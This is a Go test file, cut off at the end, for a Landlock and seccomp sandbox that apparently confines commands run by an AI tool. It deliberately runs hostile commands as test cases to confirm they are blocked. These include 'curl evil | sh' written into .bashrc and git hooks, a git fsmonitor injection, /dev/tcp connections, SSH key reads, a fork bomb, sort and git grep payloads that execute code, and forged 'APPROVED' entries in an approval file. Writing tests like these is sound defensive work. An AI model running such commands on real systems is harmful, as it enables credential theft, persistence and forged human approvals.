package sandbox_test

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"pp-lsp/internal/testenv"
	"pp-lsp/server/actuate/sandbox"
)

// world is a memex root among the places a command must not reach: a
// fake home with credentials, the data, config and runtime folders, and a
// folder outside everything.
type world struct {
	base, root, home, data, config, runtime, outside string
	env                                              map[string]string
}

func newWorld(t *testing.T) *world {
	t.Helper()
	base, err := filepath.EvalSymlinks(t.TempDir())
	require.NoError(t, err)
	w := &world{
		base: base, root: filepath.Join(base, "memex"), home: filepath.Join(base, "home"),
		data: filepath.Join(base, "data"), config: filepath.Join(base, "home", ".config", "passepartout"),
		runtime: filepath.Join(base, "run", "passepartout"), outside: filepath.Join(base, "outside"),
	}
	for name, text := range map[string]string{
		"memex/notes/ideas.org":              "* Ideas\nA public idea.\n",
		"memex/notes/secret.org":             "* Bank :private:\nPIN 4711\n",
		"memex/index.org":                    "* Index\n",
		"memex/flightplans.org":              "#+TODO: PLAN APPROVED | DONE\n",
		"memex/journal.org":                  "#+TITLE: Journal\n",
		"home/.ssh/id_rsa":                   "-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n",
		"home/.bashrc":                       "# the user's\n",
		"home/.config/passepartout/c":        "{}",
		"data/key":                           "0123456789abcdef0123456789abcdef",
		"run/passepartout/token":             "bridge-token",
		"outside/readme.txt":                 "outside the roots\n",
		"memex/.git/config":                  "[core]\n",
		"memex/.git/hooks/pre-commit.sample": "#!/bin/sh\n",
	} {
		p := filepath.Join(base, name)
		require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
		require.NoError(t, os.WriteFile(p, []byte(text), 0o644))
	}
	w.env = map[string]string{
		"PATH": os.Getenv("PATH"), "LANG": "C.UTF-8", "HOME": w.home,
		"OPENAI_API_KEY": "sk-canary-must-not-reach-a-command", "SSH_AUTH_SOCK": "/tmp/agent.sock",
	}
	return w
}

// config is a sandbox over the world's root, required unless changed.
func (w *world) sandboxConfig(mutate ...func(*sandbox.Config)) sandbox.Config {
	c := sandbox.Config{
		Roots:     []string{w.root},
		Protected: []string{filepath.Join(w.root, "flightplans.org"), filepath.Join(w.root, "journal.org"), w.data, w.config, w.runtime},
		Home:      w.home,
		Private:   func() []string { return []string{filepath.Join(w.root, "notes", "secret.org")} },
		Getenv:    func(k string) string { return w.env[k] },
		Limits:    sandbox.Limits{CPU: 10 * time.Second, FileSize: 4 << 20, Processes: 64},
	}
	for _, m := range mutate {
		m(&c)
	}
	return c
}

func (w *world) sandbox(t *testing.T, mutate ...func(*sandbox.Config)) *sandbox.Sandbox {
	t.Helper()
	sb, err := sandbox.New(w.sandboxConfig(mutate...))
	require.NoError(t, err)
	return sb
}

// sh runs a bash command line in the root.
func sh(t *testing.T, sb *sandbox.Sandbox, dir, cmd string) (int, string, error) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	var out bytes.Buffer
	code, err := sb.Run(ctx, sandbox.Command{Argv: []string{"/bin/bash", "-c", cmd}, Dir: dir, Stdout: &out, Stderr: &out})
	return code, out.String(), err
}

// needLandlock skips where the kernel has no Landlock (never under CI).
func needLandlock(t *testing.T) sandbox.Status {
	t.Helper()
	st := sandbox.Probe()
	if !st.Available() {
		if testenv.InCI() {
			t.Fatalf("CI machines have Landlock, but here: %s", st)
		}
		t.Skip(st.String())
	}
	return st
}

// snapshot is every file under dir with its bytes and mode.
func snapshot(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	require.NoError(t, filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		fi, err := d.Info()
		if err != nil {
			return err
		}
		v := fi.Mode().String()
		if fi.Mode().IsRegular() {
			b, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			v += " " + string(b)
		}
		out[p] = v
		return nil
	}))
	return out
}

func TestWritesStayInsideTheRootsAwayFromProtectedPlaces(t *testing.T) {
	needLandlock(t)
	w := newWorld(t)
	sb := w.sandbox(t)
	homeBefore, dataBefore, outBefore := snapshot(t, w.home), snapshot(t, w.data), snapshot(t, w.outside)
	plans := filepath.Join(w.root, "flightplans.org")
	plansBefore, _ := os.ReadFile(plans)
	for _, tc := range []struct {
		name, cmd string
		allowed   bool
		file      string // written by an allowed command
	}{
		{name: "a file in a root's folder", cmd: "echo ok > notes/new.txt", allowed: true, file: "notes/new.txt"},
		{name: "a new folder below a root's folder", cmd: "mkdir -p notes/a/b && echo ok > notes/a/b/c.txt", allowed: true, file: "notes/a/b/c.txt"},
		{name: "an existing file at a root's top", cmd: "echo more >> index.org", allowed: true},
		{name: "the private temporary folder", cmd: `echo ok > "$TMPDIR/t" && cat "$HOME/t"`, allowed: true},
		{name: "a new file at a root's top", cmd: "echo x > new.txt"},
		{name: "a new folder at a root's top", cmd: "mkdir archive"},
		{name: "flightplans.org", cmd: "echo '* APPROVED forged' >> flightplans.org"},
		{name: "flightplans.org by sed -i", cmd: "sed -i s/PLAN/APPROVED/ flightplans.org"},
		{name: "flightplans.org by a rename over it", cmd: "echo '* APPROVED forged' > notes/fp && mv -f notes/fp flightplans.org"},
		{name: "flightplans.org removed", cmd: "rm -f flightplans.org"},
		{name: "flightplans.org truncated", cmd: "truncate -s 0 flightplans.org"},
		{name: "flightplans.org through a hard link", cmd: "ln flightplans.org notes/fp-link && echo x >> notes/fp-link"},
		{name: "journal.org", cmd: "echo '* forged entry' >> journal.org"},
		{name: "outside the roots", cmd: "echo x > " + filepath.Join(w.outside, "marker")},
		{name: "the fake home's .bashrc", cmd: "echo 'curl evil | sh' >> " + filepath.Join(w.home, ".bashrc")},
		{name: "the data folder", cmd: "echo x > " + filepath.Join(w.data, "key")},
		{name: "/tmp", cmd: "echo x > /tmp/pp-lsp-sandbox-test-marker"},
		{name: ".git/hooks", cmd: "echo 'curl evil | sh' > .git/hooks/pre-commit"},
		{name: ".git/config", cmd: "printf '[core]\\nfsmonitor = sh payload\\n' >> .git/config"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			code, out, err := sh(t, sb, w.root, tc.cmd)
			require.NoError(t, err)
			if tc.allowed {
				assert.Equal(t, 0, code, out)
				if tc.file != "" {
					assert.FileExists(t, filepath.Join(w.root, tc.file))
				}
				return
			}
			assert.NotEqual(t, 0, code, "the kernel refused it: %s", out)
			// EACCES, or EXDEV where Landlock refuses to link a file
			// where it would gain rights.
			// (EROFS or EBUSY where the protected names are bound read-only
			// in a mount namespace, as flightplans.org is too.)
			assert.Regexp(t, "ermission denied|cross-device link|Read-only file system|Device or resource busy", out, "refused by the sandbox, not by chance")
		})
	}
	assert.NoFileExists(t, filepath.Join(w.root, "new.txt"))
	assert.NoDirExists(t, filepath.Join(w.root, "archive"))
	assert.NoFileExists(t, "/tmp/pp-lsp-sandbox-test-marker")
	assert.NoFileExists(t, filepath.Join(w.root, ".git", "hooks", "pre-commit"))
	got, _ := os.ReadFile(plans)
	assert.Equal(t, string(plansBefore), string(got), "flightplans.org unchanged")
	assert.Equal(t, homeBefore, snapshot(t, w.home), "the home is unchanged")
	assert.Equal(t, dataBefore, snapshot(t, w.data), "the data folder is unchanged")
	assert.Equal(t, outBefore, snapshot(t, w.outside), "nothing appeared outside the roots")
}

func TestReadsStayInsideTheRootsAndTheSystem(t *testing.T) {
	needLandlock(t)
	w := newWorld(t)
	sb := w.sandbox(t)
	for _, tc := range []struct {
		name, path string
		readable   bool
	}{
		{"a public note", "notes/ideas.org", true},
		{"the system's programs", "/usr/bin/env", true},
		{"/etc/passwd (an allow-listed entry)", "/etc/passwd", true},
		{"/etc/hostname (not allow-listed)", "/etc/hostname", false},
		{"a private note", "notes/secret.org", false},
		{"the fake home's ssh key", filepath.Join(w.home, ".ssh", "id_rsa"), false},
		{"the data folder's key", filepath.Join(w.data, "key"), false},
		{"the config folder", filepath.Join(w.config, "c"), false},
		{"the runtime folder's token", filepath.Join(w.runtime, "token"), false},
		{"journal.org", "journal.org", false},
		{"flightplans.org", "flightplans.org", false},
		{"a file outside the roots", filepath.Join(w.outside, "readme.txt"), false},
		{"the real home", "/root/.bashrc", false},
		{"another process's environment", "/proc/1/environ", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if tc.readable {
				code, out, err := sh(t, sb, w.root, "head -c 64 "+tc.path+" > /dev/null")
				require.NoError(t, err)
				assert.Equal(t, 0, code, out)
				return
			}
			if _, err := os.Stat(tc.path); !filepath.IsAbs(tc.path) || err == nil {
				code, out, err := sh(t, sb, w.root, "cat "+tc.path)
				require.NoError(t, err)
				assert.NotEqual(t, 0, code, out)
				assert.Contains(t, out, "ermission denied")
			}
		})
	}
	code, out, err := sh(t, sb, w.root, "ls "+filepath.Join(w.home, ".ssh"))
	require.NoError(t, err)
	assert.NotEqual(t, 0, code)
	assert.NotContains(t, out, "id_rsa", "not even the names")
}

func TestAHomeInsideARootKeepsItsDotFilesHidden(t *testing.T) {
	needLandlock(t)
	w := newWorld(t)
	require.NoError(t, os.MkdirAll(filepath.Join(w.home, "org"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(w.home, "org", "todo.org"), []byte("* Todo\n"), 0o644))
	sb := w.sandbox(t, func(c *sandbox.Config) { c.Roots = []string{w.home} })
	code, out, err := sh(t, sb, w.home, "cat org/todo.org && echo ok > org/notes.txt")
	require.NoError(t, err)
	assert.Equal(t, 0, code, out)
	for _, cmd := range []string{"cat .ssh/id_rsa", "echo x >> .bashrc", "cat .config/passepartout/c", "echo x > .profile"} {
		code, out, err := sh(t, sb, w.home, cmd)
		require.NoError(t, err)
		assert.NotEqual(t, 0, code, "%s: %s", cmd, out)
	}
	assert.NoFileExists(t, filepath.Join(w.home, ".profile"))
	b, _ := os.ReadFile(filepath.Join(w.home, ".bashrc"))
	assert.Equal(t, "# the user's\n", string(b))
}

func TestProtectedPlacesInsideARootStayHidden(t *testing.T) {
	needLandlock(t)
	w := newWorld(t)
	// The data folder lives in a root's subfolder, beside ordinary notes.
	data := filepath.Join(w.root, "notes", ".pp-data")
	require.NoError(t, os.MkdirAll(data, 0o700))
	require.NoError(t, os.WriteFile(filepath.Join(data, "key"), []byte("k"), 0o600))
	sb := w.sandbox(t, func(c *sandbox.Config) { c.Protected = append(c.Protected, data) })
	code, out, err := sh(t, sb, w.root, "echo ok >> notes/ideas.org && cat notes/ideas.org")
	require.NoError(t, err)
	assert.Equal(t, 0, code, "the siblings stay usable: %s", out)
	// Landlock only allows: the folder holding a protected place cannot
	// get new entries, or they could not be kept apart from it.
	code, out, err = sh(t, sb, w.root, "echo ok > notes/beside.txt")
	require.NoError(t, err)
	assert.NotEqual(t, 0, code, out)
	for _, cmd := range []string{"cat notes/.pp-data/key", "echo x > notes/.pp-data/key", "echo x > notes/.pp-data/new", "rm -rf notes/.pp-data", "mv notes/.pp-data notes/moved"} {
		code, out, err := sh(t, sb, w.root, cmd)
		require.NoError(t, err)
		assert.NotEqual(t, 0, code, "%s: %s", cmd, out)
	}
	b, err := os.ReadFile(filepath.Join(data, "key"))
	require.NoError(t, err)
	assert.Equal(t, "k", string(b))
}

func TestAProtectedFileWithAnotherHardLinkIsRefused(t *testing.T) {
	needLandlock(t)
	w := newWorld(t)
	require.NoError(t, os.Link(filepath.Join(w.root, "flightplans.org"), filepath.Join(w.root, "notes", "plans-copy.org")))
	sb := w.sandbox(t)
	_, _, err := sh(t, sb, w.root, "echo '* APPROVED x' >> notes/plans-copy.org")
	require.Error(t, err)
	assert.Contains(t, err.Error(), "hard links")
	b, _ := os.ReadFile(filepath.Join(w.root, "flightplans.org"))
	assert.NotContains(t, string(b), "APPROVED x")
}

func TestNoNetwork(t *testing.T) {
	st := needLandlock(t)
	w := newWorld(t)
	sb := w.sandbox(t)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	defer ln.Close()
	accepted := make(chan struct{}, 1)
	go func() {
		if c, err := ln.Accept(); err == nil {
			c.Close()
			accepted <- struct{}{}
		}
	}()
	port := ln.Addr().(*net.TCPAddr).Port
	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
	require.NoError(t, err)
	defer udp.Close()
	unixPath := filepath.Join(w.outside, "s.sock")
	ul, err := net.Listen("unix", unixPath)
	require.NoError(t, err)
	defer ul.Close()

	cmds := []string{
		fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d && echo connected", port),
		fmt.Sprintf("echo leak > /dev/udp/127.0.0.1/%d && echo sent", udp.LocalAddr().(*net.UDPAddr).Port),
	}
	if st.Seccomp && testenv.NeedCommand(t, "python3") != "" {
		cmds = append(cmds,
			fmt.Sprintf(`python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(%q); print("connected")'`, unixPath),
			fmt.Sprintf(`python3 -c 'import socket; socket.create_connection(("127.0.0.1", %d)); print("connected")'`, port),
		)
	}
	for _, cmd := range cmds {
		code, out, err := sh(t, sb, w.root, cmd)
		require.NoError(t, err)
		assert.NotEqual(t, 0, code, out)
		assert.NotContains(t, out, "connected")
		assert.NotContains(t, out, "sent")
	}
	select {
	case <-accepted:
		t.Fatal("a confined command reached a loopback port")
	case <-time.After(200 * time.Millisecond):
	}
	udp.SetReadDeadline(time.Now().Add(100 * time.Millisecond))
	_, _, err = udp.ReadFrom(make([]byte, 16))
	assert.Error(t, err, "no datagram arrived")
}

func TestKernelFacilitiesOutsideLandlockAreClosed(t *testing.T) {
	st := needLandlock(t)
	if !st.Seccomp {
		t.Skip("no seccomp filter for this architecture")
	}
	testenv.NeedCommand(t, "python3")
	w := newWorld(t)
	sb := w.sandbox(t)
	// errno by syscall: io_uring_setup gets ENOSYS, keyctl EPERM; the
	// test's own process, outside the sandbox, cannot be signalled.
	script := fmt.Sprintf(`
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
nr = {"x86_64": (425, 250), "aarch64": (425, 219)}[platform.machine()]
params = ctypes.create_string_buffer(120)
print("io_uring", libc.syscall(nr[0], 8, params), ctypes.get_errno())
print("keyctl", libc.syscall(nr[1], 0, -3, 0), ctypes.get_errno())
try:
    os.kill(%d, 0)
    print("signal reached")
except PermissionError:
    print("signal refused")
`, os.Getpid())
	code, out, err := sh(t, sb, w.root, "python3 -c '"+strings.ReplaceAll(script, "'", `'"'"'`)+"'")
	require.NoError(t, err)
	require.Equal(t, 0, code, out)
	assert.Contains(t, out, "io_uring -1 38") // ENOSYS
	assert.Contains(t, out, "keyctl -1 1")    // EPERM
	if st.ABI >= 6 {
		assert.Contains(t, out, "signal refused")
	}
}

func TestCapabilitiesAreDropped(t *testing.T) {
	needLandlock(t)
	if os.Geteuid() != 0 {
		t.Skip("only root has capabilities to drop")
	}
	w := newWorld(t)
	sb := w.sandbox(t)
	code, out, err := sh(t, sb, w.root, "chown 1:1 notes/ideas.org")
	require.NoError(t, err)
	assert.NotEqual(t, 0, code, "root without CAP_CHOWN: %s", out)
	fi, err := os.Stat(filepath.Join(w.root, "notes", "ideas.org"))
	require.NoError(t, err)
	assert.Equal(t, uint32(0), statUID(fi))
}

func TestLimits(t *testing.T) {
	needLandlock(t)
	w := newWorld(t)

	t.Run("a 2 GB file stops at the file size limit", func(t *testing.T) {
		sb := w.sandbox(t, func(c *sandbox.Config) { c.Limits.FileSize = 4 << 20 })
		code, out, err := sh(t, sb, w.root, "dd if=/dev/zero of=notes/big bs=1M count=2048")
		require.NoError(t, err)
		assert.NotEqual(t, 0, code, out)
		fi, err := os.Stat(filepath.Join(w.root, "notes", "big"))
		require.NoError(t, err)
		assert.Equal(t, int64(4<<20), fi.Size())
	})

	t.Run("forking stops at the process limit, sandbox by sandbox", func(t *testing.T) {
		// Each sandbox keeps a helper started ahead, in a cgroup of its
		// own: two sandboxes of one process never share (or lose) one.
		for _, limit := range []int{32, 24} {
			sb := w.sandbox(t, func(c *sandbox.Config) { c.Limits.Processes = limit })
			start := time.Now()
			n := forkCount(t, sb, w.root)
			assert.Positive(t, n)
			assert.Less(t, n, limit, "the helper, python and its children share the limit")
			assert.Less(t, time.Since(start), 25*time.Second, "the sleepers (30 s each) were killed when the command ended")
		}
	})

	t.Run("a classic fork bomb is bounded and swept", func(t *testing.T) {
		sb := w.sandbox(t, func(c *sandbox.Config) { c.Limits.Processes = 32 })
		// Never let a bomb loose where the bound does not hold.
		require.Less(t, forkCount(t, sb, w.root), 32)
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
		defer cancel()
		start := time.Now()
		code, err := sb.Run(ctx, sandbox.Command{Argv: []string{"/bin/bash", "-c", ":(){ :|:& };:; sleep 10"}, Dir: w.root})
		// Either the wall time ends it, or the bound leaves bash unable to
		// fork its sleep and it fails: never a clean run of ten seconds.
		assert.True(t, err != nil || code != 0, "the bomb ended cleanly (exit %d)", code)
		assert.Less(t, time.Since(start), 9*time.Second, "stopped at its wall time, not at its sleep's end")
	})

	t.Run("CPU time", func(t *testing.T) {
		// One CPU second, however long a loaded machine takes to give it.
		sb := w.sandbox(t, func(c *sandbox.Config) { c.Limits.CPU = time.Second })
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
		defer cancel()
		code, err := sb.Run(ctx, sandbox.Command{Argv: []string{"/bin/bash", "-c", "while :; do :; done"}, Dir: w.root})
		require.NoError(t, err)
		assert.Equal(t, 128+24, code, "SIGXCPU")
	})

	t.Run("wall time, with what left the process group", func(t *testing.T) {
		sb := w.sandbox(t)
		marker := filepath.Join(w.root, "notes", "late")
		ctx, cancel := context.WithTimeout(context.Background(), 300*time.Millisecond)
		defer cancel()
		start := time.Now()
		_, err := sb.Run(ctx, sandbox.Command{Argv: []string{"/bin/bash", "-c", "setsid sh -c 'sleep 1; touch " + marker + "' & sleep 30"}, Dir: w.root})
		require.ErrorIs(t, err, context.DeadlineExceeded)
		assert.Less(t, time.Since(start), 20*time.Second, "stopped at its wall time, not after its 30 s sleep")
		time.Sleep(1500 * time.Millisecond)
		assert.NoFileExists(t, marker, "the detached process died with the command")
	})
}

func TestTheEnvironmentIsAnAllowList(t *testing.T) {
	needLandlock(t)
	w := newWorld(t)
	w.env["PATH"] = ".:" + filepath.Join(w.home, "bin") + "::/usr/bin:/bin"
	require.NoError(t, os.WriteFile(filepath.Join(w.root, "ls"), []byte("#!/bin/sh\necho planted\n"), 0o755))
	sb := w.sandbox(t)
	code, out, err := sh(t, sb, w.root, "env; ls")
	require.NoError(t, err)
	require.Equal(t, 0, code, out)
	assert.NotContains(t, out, "sk-canary")
	assert.NotContains(t, out, "OPENAI_API_KEY")
	assert.NotContains(t, out, "SSH_AUTH_SOCK")
	assert.NotContains(t, out, "planted", "a relative PATH entry is dropped")
	assert.Contains(t, out, "PATH=/usr/bin:/bin\n")
	assert.Contains(t, out, "LANG=C.UTF-8\n")
	assert.Regexp(t, `HOME=(/\S+)\n(?s:.*)TMPDIR=(/\S+)`, out)
	assert.NotContains(t, out, "HOME="+w.home)
}

func TestModesWhereTheKernelHasNoLandlock(t *testing.T) {
	w := newWorld(t)
	noLandlock := func() sandbox.Status {
		return sandbox.Status{Reason: "the kernel has no Landlock (simulated)", Seccomp: sandbox.Probe().Seccomp}
	}
	outside := filepath.Join(w.outside, "marker")
	cmd := "touch " + outside

	t.Run("required refuses with one sentence", func(t *testing.T) {
		sb := w.sandbox(t, func(c *sandbox.Config) { c.Probe = noLandlock; c.Mode = sandbox.Required })
		assert.Equal(t, sandbox.Required, sb.Mode())
		_, _, err := sh(t, sb, w.root, cmd)
		require.ErrorIs(t, err, sandbox.ErrUnavailable)
		msg := err.Error()
		assert.Contains(t, msg, "the kernel has no Landlock (simulated)")
		assert.Contains(t, msg, "best-effort")
		assert.Equal(t, 1, strings.Count(msg, ". ")+1, "one sentence: %s", msg)
		assert.NoFileExists(t, outside, "nothing ran")
		assert.Contains(t, sb.Describe(), "do not run")
	})

	t.Run("the default there is best-effort, which runs unconfined", func(t *testing.T) {
		sb := w.sandbox(t, func(c *sandbox.Config) { c.Probe = noLandlock; c.Mode = "" })
		assert.Equal(t, sandbox.BestEffort, sb.Mode())
		code, out, err := sh(t, sb, w.root, cmd+" && env")
		require.NoError(t, err)
		assert.Equal(t, 0, code, out)
		assert.FileExists(t, outside, "documented: nothing confines files without Landlock")
		assert.NotContains(t, out, "sk-canary", "the environment is still scrubbed")
		assert.Contains(t, sb.Describe(), "not confined to the roots")
		require.NoError(t, os.Remove(outside))
	})

	t.Run("the default where the kernel has Landlock is required", func(t *testing.T) {
		st := needLandlock(t)
		sb := w.sandbox(t, func(c *sandbox.Config) { c.Mode = "" })
		assert.Equal(t, sandbox.Required, sb.Mode())
		assert.Contains(t, sb.Describe(), fmt.Sprintf("Landlock ABI %d", st.ABI))
	})

	t.Run("off runs unconfined", func(t *testing.T) {
		sb := w.sandbox(t, func(c *sandbox.Config) { c.Mode = sandbox.Off })
		code, out, err := sh(t, sb, w.root, cmd)
		require.NoError(t, err)
		assert.Equal(t, 0, code, out)
		assert.FileExists(t, outside)
	})
}

func TestARootHoldingTheSystemIsRefused(t *testing.T) {
	for _, root := range []string{"/", "/usr/.."} {
		_, err := sandbox.New(sandbox.Config{Roots: []string{root}, Mode: sandbox.Required})
		require.Error(t, err, root)
		assert.Contains(t, err.Error(), "cannot confine")
	}
	_, err := sandbox.New(sandbox.Config{Roots: []string{"/"}, Mode: sandbox.Off})
	assert.NoError(t, err, "off confines nothing, so refuses nothing")
}

func TestParseMode(t *testing.T) {
	for in, want := range map[string]sandbox.Mode{"": "", "required": sandbox.Required, " Best-Effort ": sandbox.BestEffort, "best_effort": sandbox.BestEffort, "OFF": sandbox.Off} {
		got, err := sandbox.ParseMode(in)
		require.NoError(t, err, in)
		assert.Equal(t, want, got, in)
	}
	_, err := sandbox.ParseMode("sometimes")
	assert.ErrorContains(t, err, `"sometimes" is none of required, best-effort, off`)
}

func TestEvalCodeInTheTemporaryFolder(t *testing.T) {
	needLandlock(t)
	w := newWorld(t)
	sb := w.sandbox(t)
	var out bytes.Buffer
	code, err := sb.Run(context.Background(), sandbox.Command{
		Argv: []string{"/bin/sh", sandbox.TempDir + "/code.sh"}, Dir: w.root, Stdout: &out, Stderr: &out,
		Files: map[string][]byte{"code.sh": []byte("echo $((6*7))\n")},
	})
	require.NoError(t, err)
	assert.Equal(t, 0, code, out.String())
	assert.Equal(t, "42\n", out.String())

	_, err = sb.Run(context.Background(), sandbox.Command{Argv: []string{"/bin/true"}, Dir: w.root, Files: map[string][]byte{"../x": nil}})
	assert.ErrorContains(t, err, "not a plain name")

	_, err = sb.Run(context.Background(), sandbox.Command{Argv: []string{"no-such-program-here"}, Dir: w.root})
	assert.ErrorContains(t, err, "no-such-program-here is not installed")
	assert.False(t, errors.Is(err, sandbox.ErrUnavailable))
}

func TestGitReadsWorkInARepositoryAtARoot(t *testing.T) {
	needLandlock(t)
	testenv.NeedCommand(t, "git")
	w := newWorld(t)
	require.NoError(t, os.RemoveAll(filepath.Join(w.root, ".git")))
	git := func(args ...string) {
		t.Helper()
		cmd := exec.Command("git", append([]string{"-C", w.root, "-c", "user.name=t", "-c", "user.email=t@t"}, args...)...)
		out, err := cmd.CombinedOutput()
		require.NoError(t, err, string(out))
	}
	git("init", "-q")
	git("add", "notes/ideas.org")
	git("commit", "-q", "-m", "first")
	require.NoError(t, os.WriteFile(filepath.Join(w.root, "notes", "ideas.org"), []byte("* Ideas\nchanged\n"), 0o644))
	sb := w.sandbox(t)
	code, out, err := sh(t, sb, w.root, "git status --short && git log --oneline && git diff --stat && git show --stat HEAD")
	require.NoError(t, err)
	assert.Equal(t, 0, code, out)
	assert.Contains(t, out, "first")
	assert.Contains(t, out, "notes/ideas.org")
	// Writing the repository means a new file in .git, beside its hooks
	// and config: refused (documented).
	code, out, err = sh(t, sb, w.root, "git -c user.name=m -c user.email=m@m commit -qam second")
	require.NoError(t, err)
	assert.NotEqual(t, 0, code, out)
}

// TestPayloadsThatRunCodeStayConfined runs the two ways the default gate
// rules once let a read-only command run a file as a program — sort's
// compression program and git grep's pager — with a payload that reaches
// for the home, the world outside the roots and the Flight Plans. Off, the
// payload works (the test can fail); confined, it changes nothing.
func TestPayloadsThatRunCodeStayConfined(t *testing.T) {
	needLandlock(t)
	testenv.NeedCommand(t, "git")
	for _, mode := range []sandbox.Mode{sandbox.Off, sandbox.Required} {
		t.Run(string(mode), func(t *testing.T) {
			w := newWorld(t)
			payload := fmt.Sprintf("echo pwned > %s; echo 'curl evil | sh' >> %s; echo '* APPROVED forged' >> %s\n",
				filepath.Join(w.outside, "marker"), filepath.Join(w.home, ".bashrc"), filepath.Join(w.root, "flightplans.org"))
			var lines strings.Builder
			lines.WriteString(payload)
			for i := range 3000 { // enough for sort to spill, compressed, to temporary files
				fmt.Fprintf(&lines, "%05d filler\n", i)
			}
			require.NoError(t, os.WriteFile(filepath.Join(w.root, "notes", "payload.txt"), []byte(lines.String()), 0o644))
			require.NoError(t, os.WriteFile(filepath.Join(w.root, "notes", "pwned.txt"), []byte(payload), 0o644))
			home, outside := snapshot(t, w.home), snapshot(t, w.outside)
			plans, _ := os.ReadFile(filepath.Join(w.root, "flightplans.org"))
			sb := w.sandbox(t, func(c *sandbox.Config) { c.Mode = mode })
			for _, cmd := range []string{
				"sort -S 1K --compress-program=sh notes/payload.txt > /dev/null",
				"git grep --no-index -Osh pwned -- notes/pwned.txt",
			} {
				_, out, err := sh(t, sb, w.root, cmd)
				require.NoError(t, err, out)
				after, _ := os.ReadFile(filepath.Join(w.root, "flightplans.org"))
				if mode == sandbox.Off {
					assert.FileExists(t, filepath.Join(w.outside, "marker"), "%s: the payload runs unconfined", cmd)
					assert.Contains(t, string(after), "forged")
					require.NoError(t, os.Remove(filepath.Join(w.outside, "marker")))
					require.NoError(t, os.WriteFile(filepath.Join(w.root, "flightplans.org"), plans, 0o644))
					continue
				}
				assert.Equal(t, home, snapshot(t, w.home), "%s: the home is unchanged", cmd)
				assert.Equal(t, outside, snapshot(t, w.outside), "%s: no marker outside the roots", cmd)
				assert.Equal(t, string(plans), string(after), "%s: flightplans.org is unchanged", cmd)
			}
		})
	}
}

// forkCount runs a python that forks sleeping children until fork fails
// (python does not retry, as bash does) and returns how many it made.
func forkCount(t *testing.T, sb *sandbox.Sandbox, dir string) int {
	t.Helper()
	testenv.NeedCommand(t, "python3")
	if !strings.Contains(sb.Describe(), "processes bounded") {
		t.Fatalf("no bound on processes here (%s): a fork test would take the machine down", sb.Describe())
	}
	code, out, err := sh(t, sb, dir, `python3 -c '
import os, time
n = 0
for i in range(300):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(30)
        os._exit(0)
    n += 1
print("forked", n)'`)
	require.NoError(t, err)
	require.Equal(t, 0, code, out)
	var n int
	_, err = fmt.Sscanf(out, "forked %d", &n)
	require.NoError(t, err, out)
	t.Logf("forked %d under %s", n, sb.Describe())
	return n
}

// TestAnOrdinaryUserIsBoundByRLIMIT_NPROC runs the process-limit tests
// again as nobody, where the pids cgroups are out of reach and
// RLIMIT_NPROC, above the tasks the user already runs, is the bound — and
// TestTheCommandCannotKillItsHelper, whose detached process only the
// helper's sweep ends there.
func TestAnOrdinaryUserIsBoundByRLIMIT_NPROC(t *testing.T) {
	needLandlock(t)
	if os.Geteuid() != 0 {
		t.Skip("this test switches to nobody, which needs root")
	}
	setpriv := testenv.NeedCommand(t, "setpriv")
	testenv.NeedCommand(t, "python3")
	dir, err := os.MkdirTemp("", "pp-lsp-sandbox-test-")
	require.NoError(t, err)
	defer os.RemoveAll(dir)
	require.NoError(t, os.Chmod(dir, 0o755))
	self, err := os.ReadFile("/proc/self/exe")
	require.NoError(t, err)
	bin := filepath.Join(dir, "sandbox.test")
	require.NoError(t, os.WriteFile(bin, self, 0o755))
	asNobody := func(run string) string {
		cmd := exec.Command(setpriv, "--reuid=65534", "--regid=65534", "--clear-groups", bin,
			"-test.run", run, "-test.v", "-test.count=1")
		cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + dir, "TMPDIR=/tmp", "LANG=C.UTF-8"}
		out, err := cmd.CombinedOutput()
		require.NoError(t, err, "%s", out)
		return string(out)
	}
	out := asNobody("^TestLimits$/^(forking|a_classic)")
	assert.Contains(t, out, "processes bounded by RLIMIT_NPROC")
	assert.Contains(t, out, "--- PASS: TestLimits/a_classic_fork_bomb_is_bounded_and_swept")
	// Where no pids cgroup holds the command, the helper's sweep is the
	// one that ends what it detached: the command cannot kill the helper.
	out = asNobody("^TestTheCommandCannotKillItsHelper$")
	assert.Contains(t, out, "--- PASS: TestTheCommandCannotKillItsHelper")
}

func TestStricter(t *testing.T) {
	with, without := sandbox.Status{ABI: 7}, sandbox.Status{Reason: "none"}
	for _, tc := range []struct {
		a, b sandbox.Mode
		st   sandbox.Status
		want sandbox.Mode
	}{
		{sandbox.Off, sandbox.Required, with, sandbox.Required},
		{sandbox.Required, sandbox.BestEffort, with, sandbox.Required},
		{sandbox.Off, "", with, sandbox.Required},
		{sandbox.Off, "", without, sandbox.BestEffort},
		{sandbox.Required, "", without, sandbox.Required},
		{sandbox.Off, sandbox.Off, with, sandbox.Off},
	} {
		assert.Equal(t, tc.want, sandbox.Stricter(tc.a, tc.b, tc.st), "%q %q %v", tc.a, tc.b, tc.st)
	}
}

// TestCloseEndsTheHelperStartedAhead: after a command the sandbox keeps a
// helper waiting for the next one; Close ends it (a program that makes
// sandboxes and drops them would otherwise keep one process each), and a
// command after Close still runs, leaving none.
func TestCloseEndsTheHelperStartedAhead(t *testing.T) {
	needLandlock(t)
	// helpers are this process's helpers (other tests' sandboxes keep
	// theirs).
